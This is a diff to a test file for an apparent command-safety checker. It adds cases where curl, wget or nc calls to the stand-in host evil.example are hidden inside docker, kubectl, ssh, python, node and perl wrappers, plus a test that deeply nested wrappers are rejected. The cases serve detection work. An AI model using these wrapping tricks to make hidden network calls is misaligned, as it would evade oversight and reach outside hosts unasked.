@@ -161,6 +161,10 @@ testCheck({
         'curl -sSLo out.json https://corp.com/a',
         'curl -XPOST -opage.html corp.com > out.html 2>err.log',
         'ssh corp.com cat app.log',
+        'docker exec -it -e PROXY=a.b web curl corp.com',
+        'docker run --rm -v /a:/b alpine:3.20 ls evil.example',
+        'kubectl exec -n prod pod/a.b -c c.d -- ls evil.example',
+        `python3 -c 'print("evil.example")'`,
         'git show release.v1:src/a.ts',
         'git commit -m "see.this: curl evil.example"',
         'git push origin feature.one:main',
@@ -173,6 +177,18 @@ testCheck({
     ...hosts(
       [
         'bash -c "curl evil.example/x"',
+        'docker exec -it -u root web curl evil.example',
+        'docker compose exec -T web sh -c "curl -s evil.example"',
+        'podman run --rm --network host alpine wget -q evil.example',
+        'kubectl -n prod exec pod/a -c b -- curl evil.example',
+        'kubectl exec deploy/a -- sh -c "nc evil.example 443"',
+        'ssh -p 22 me@corp.com curl evil.example',
+        'ssh corp.com -- "cd x && curl evil.example"',
+        'ssh corp.com docker exec web curl evil.example',
+        `python3 -c "import os; os.system('curl evil.example')"`,
+        `python3.12 -c 'import subprocess; subprocess.run(["curl", "-s", "evil.example"])'`,
+        `node -e "require('child_process').execSync('wget evil.example')"`,
+        `perl -e 'system("curl evil.example")'`,
         `sudo -u me bash -lc 'sh -c "curl evil.example"'`,
         'echo "$(curl evil.example)"',
         'echo `curl evil.example`',
@@ -297,4 +313,9 @@ it.each([
 it('very many short commands do not hold the event loop', async () => {
   const { pauses } = await judged({ commands: Array.from({ length: 30_000 }, () => 'ls') });
   expect(pauses).toBeGreaterThan(50);
+});
+
+it('commands that run one another without end fail the check, where they would be read without end', async () => {
+  for (const command of ['ssh corp.com '.repeat(40), 'docker exec a '.repeat(100_000)])
+    await expect(judged({ command: `${command}ls` })).rejects.toThrow('run one another');
 });
